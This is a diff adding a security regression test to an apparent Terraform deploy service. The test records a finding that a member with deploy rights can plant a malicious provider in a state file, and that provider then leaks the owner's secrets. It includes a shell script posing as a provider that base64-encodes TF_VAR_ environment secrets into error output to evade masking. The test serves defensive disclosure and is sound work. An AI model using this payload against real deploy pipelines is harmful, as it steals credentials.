@@ -310,3 +310,76 @@ async def test_a_secret_never_appears_in_a_plans_addresses(database_url, tmp_pat
         assert "per_token" in plan, plan
         assert "TOPSECRET-77" not in plan, plan
         assert "TOPSECRET-77" not in events
+
+
+# FINDING 9 (left for the lead): a `deploy` member plants code that runs in the OWNER's later
+# deploys, with the owner's secrets. terraform init installs the providers the STATE names, not
+# only the configuration's, and terraform starts them to plan or destroy what the state holds:
+# bob writes a state (his terraform CLI, or a deploy of his) with one resource of a provider he
+# published (here: the operator's mirror stands for the public registry); ann's next deploy,
+# with her cloud credentials as secrets, starts that provider, which hands them to bob through
+# the failure message (base64: the mask sees only the value itself) that bob, a member, reads.
+EVIL_PROVIDER = """#!/bin/sh
+# not a provider: the handshake line terraform quotes back in its error is the env, encoded
+printf '%s\\n' "$(env | grep '^TF_VAR_' | base64 -w0)"
+exit 1
+"""
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="a deploy member can make the owner's runs start a provider named only by the state "
+    "they wrote (fix, for the lead: install and start only providers the deploy's own "
+    "configuration or the owner's kept lock file names, or say plainly that `deploy` "
+    "membership shares the owner's secrets)",
+)
+async def test_a_deploy_member_cannot_run_code_with_the_owners_secrets(database_url, tmp_path, runner_image):
+    import base64
+
+    import httpx
+    from test_tfstate import Cli
+
+    from service.auth import create_token
+
+    package = tmp_path / "mirror" / "registry.terraform.io" / "bob" / "evil" / "1.0.0" / "linux_amd64"
+    package.mkdir(parents=True)
+    binary = package / "terraform-provider-evil_v1.0.0"
+    binary.write_text(EVIL_PROVIDER)
+    binary.chmod(0o755)
+    for d in [tmp_path, *package.relative_to(tmp_path).parents]:
+        (tmp_path / d).chmod(0o755)
+    package.chmod(0o755)
+    async with harness(
+        database_url, tmp_path, "local", runner_image, max_attempts=1,
+        provider_mirror=str(tmp_path / "mirror"),
+    ) as h:
+        async with h.services.pool.connection() as conn:
+            bob_token = await create_token(conn, "bob")
+        first = await h.submit({"main.tf": ONE}, workspace="prod")
+        assert (await h.wait(first["id"]))["status"] == "succeeded"
+        assert (await h.client.put("/workspaces/prod/members/bob", json={"role": "deploy"})).status_code == 201
+        bob = Cli(h.client, bob_token)
+        state = json.loads((await bob.get("ann:prod")).content)
+        state["serial"] += 1
+        state["resources"].append({
+            "mode": "managed", "type": "evil_thing", "name": "x",
+            "provider": 'provider["registry.terraform.io/bob/evil"]',
+            "instances": [{"schema_version": 0, "attributes": {"id": "1"}}],
+        })
+        assert (await bob.put("ann:prod", json.dumps(state).encode())).status_code == 200
+        # ann deploys as she always does, with her credentials as a secret.
+        d = await h.submit({"main.tf": ONE}, workspace="prod", secrets={"cloud_key": "ANN-CLOUD-KEY-123"})
+        await h.wait(d["id"])
+        async with httpx.AsyncClient(
+            transport=h.client._transport, base_url="http://test",
+            headers={"Authorization": f"Bearer {bob_token}"},
+        ) as as_bob:
+            seen = (await as_bob.get(f"/deploys/{d['id']}/events")).text
+            seen += (await as_bob.get(f"/deploys/{d['id']}/logs")).text
+        decoded = ""
+        for word in seen.replace('"', " ").replace("\\n", " ").split():
+            try:
+                decoded += base64.b64decode(word, validate=True).decode(errors="replace")
+            except ValueError:
+                continue
+        assert "ANN-CLOUD-KEY-123" not in decoded, decoded
